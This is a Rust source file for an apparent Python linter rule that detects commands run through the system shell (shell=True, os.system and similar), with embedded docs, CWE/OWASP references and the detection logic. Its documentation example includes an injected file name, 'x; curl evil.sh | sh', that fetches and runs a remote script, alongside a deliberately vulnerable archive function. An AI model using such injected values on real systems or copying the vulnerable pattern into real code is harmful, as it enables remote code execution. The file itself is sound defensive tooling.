//! `subprocess-shell-true`: a command run through the system shell.

use crate::built_strings::{carries_no_data, is_number};
use crate::context::Context;
use crate::rule::{Check, Rule};
use moat_diagnostics::{Category, Confidence, Owasp, RuleMeta, Severity};
use moat_python::Ranged;
use moat_python::ast::{Expr, ExprCall};

const DOCS: &str = r#"## What it does
Flags calls that run a command line through the system shell: `subprocess` functions
called with a true `shell=` argument (also when the value comes from a constant such as
`SHELL = True`), and functions that always use a shell: `os.system`, `os.popen`,
`subprocess.getoutput`, `subprocess.getstatusoutput`, `asyncio.create_subprocess_shell`
and the `commands`/`popen2` modules of Python 2.

Not reported:
- a command that cannot carry text from outside: a constant, also through variables,
  concatenation, `%`, `str.format`, f-strings and `join` of constants, a list of constants,
  a loop variable over a constant tuple (`for cmd in ("ver", "cmd /c ver"):`), and commands
  built only from such parts, numbers (`int(n)`, `len(x)`, `%d`, `{n:d}`) and values quoted
  for the shell (`shlex.quote(path)`, `shlex.join(argv)`). Nothing can be injected into
  them; Bandit reports a constant command at low severity, Moat not at all.
- a pass-through wrapper, when `command-injection` runs too (it does by default): a
  function whose command is one of its own parameters, unchanged
  (`def pager(cmd): subprocess.Popen(cmd, shell=True)`). `command-injection` follows every
  call of the wrapper and reports the ones that pass untrusted input, at this call. With
  `command-injection` off (`--select subprocess-shell-true`), the wrapper is reported. A
  command built from a parameter (`"ls " + path`) is not a pass-through and is reported.

Test code (files in a `test`, `tests` or `testing` folder, `test_*.py`, `*_test.py`,
`tests.py`, `conftest.py`) is not checked: it is not deployed, and a shell command in a
test there is how tests are written, not a weakness.

## Why is this bad?
The shell interprets its whole input: `;`, `|`, `&&`, `$(…)`, backticks, globbing and
redirections. If any part of the command comes from a user, a file name, a header or the
environment, an attacker can append commands of their own (OS command injection).
Quoting by hand is easy to get wrong.

## Example
```python
import subprocess

def archive(name):
    subprocess.run(f"tar czf /backups/{name}.tgz /srv/data", shell=True)
```
A `name` of `x; curl evil.sh | sh` runs the attacker's script.

## Use instead
Pass the program and its arguments as a list, without a shell:
```python
import subprocess

def archive(name):
    subprocess.run(["tar", "czf", f"/backups/{name}.tgz", "/srv/data"], check=True)
```
If a shell is truly needed, quote every untrusted part with `shlex.quote`.

## References
- CWE-78: Improper Neutralization of Special Elements used in an OS Command
- CWE-77: Improper Neutralization of Special Elements used in a Command
- OWASP Top 10 2025: A05 Injection
- Python docs: `subprocess` — Security Considerations
"#;

/// Metadata of `subprocess-shell-true`.
pub static META: RuleMeta = RuleMeta {
    id: "subprocess-shell-true",
    title: "Command run through a shell",
    category: Category::Injection,
    cwe: &[78, 77],
    owasp: Owasp::A05Injection,
    severity: Severity::High,
    confidence: Confidence::High,
    default_enabled: true,
    checks_test_code: false,
    bandit: &["B602", "B605"],
    ruff: &["S602", "S605"],
    docs: DOCS,
};

/// The rule: inspects calls into modules that start processes.
pub const RULE: Rule = Rule {
    meta: &META,
    checks: &[Check::Call(check)],
    modules: &["subprocess", "os", "asyncio", "commands", "popen2"],
};

/// Functions that take a `shell=` argument.
pub(crate) const SHELL_ARGUMENT: &[&str] = &[
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.run",
];

/// Functions that always run their command through a shell.
pub(crate) const ALWAYS_SHELL: &[&str] = &[
    "os.system",
    "os.popen",
    "os.popen2",
    "os.popen3",
    "os.popen4",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "asyncio.create_subprocess_shell",
    "commands.getoutput",
    "commands.getstatusoutput",
    "popen2.popen2",
    "popen2.popen3",
    "popen2.popen4",
    "popen2.Popen3",
    "popen2.Popen4",
];

fn check(ctx: &mut Context<'_, '_>, call: &ExprCall, callee: &str) {
    let command = call
        .arguments
        .find_argument_value("args", 0)
        .or_else(|| call.arguments.find_argument_value("cmd", 0))
        .or_else(|| call.arguments.find_argument_value("command", 0));
    if SHELL_ARGUMENT.contains(&callee) {
        let Some(shell) = call.arguments.find_keyword("shell") else {
            return;
        };
        let Some(value) = ctx.constant(&shell.value) else {
            return;
        };
        if !value.is_truthy() {
            return;
        }
        let how = if shell.value.is_boolean_literal_expr() {
            "`shell=True`".to_string()
        } else {
            format!("`shell={}`, which is true", ctx.text(&shell.value))
        };
        report(ctx, call, callee, command, &how);
    } else if ALWAYS_SHELL.contains(&callee) {
        report(ctx, call, callee, command, "the shell it always uses");
    }
}

fn report(
    ctx: &mut Context<'_, '_>,
    call: &ExprCall,
    callee: &str,
    command: Option<&Expr>,
    how: &str,
) {
    if let Some(command) = command
        && (cannot_carry_input(ctx, command) || ctx.leaves_wrapper_to_taint(command))
    {
        return;
    }
    let what = command.map_or_else(
        || "its command".to_string(),
        |c| format!("`{}`", ctx.snippet(c)),
    );
    ctx.report(
        call.range(),
        format!("`{callee}` runs {what} through {how}; if any part of it comes from outside, an attacker can inject shell commands"),
    );
}

/// Whether `command` cannot carry text from outside: a constant (string, tuple or list of
/// constants) or text built only from constants, numbers and shell-quoted values. A
/// command that is one quoted value (`shlex.quote(program)`) still picks the program.
fn cannot_carry_input(ctx: &Context<'_, '_>, command: &Expr) -> bool {
    if is_shell_safe(ctx, command) && ctx.constant(command).is_none() {
        return false;
    }
    match command {
        Expr::List(list) => list
            .elts
            .iter()
            .all(|item| carries_no_data(ctx, item, &is_shell_safe)),
        other => carries_no_data(ctx, other, &is_shell_safe),
    }
}

/// Whether a part of a command cannot change its words: a number, or a value quoted for
/// the shell by `shlex.quote` or `shlex.join` (`pipes.quote` in Python 2).
fn is_shell_safe(ctx: &Context<'_, '_>, part: &Expr) -> bool {
    is_number(ctx, part, 0)
        || matches!(part, Expr::Call(call) if ctx.resolve(&call.func).is_some_and(|name| {
            matches!(name.as_str(), "shlex.quote" | "shlex.join" | "pipes.quote")
        }))
}
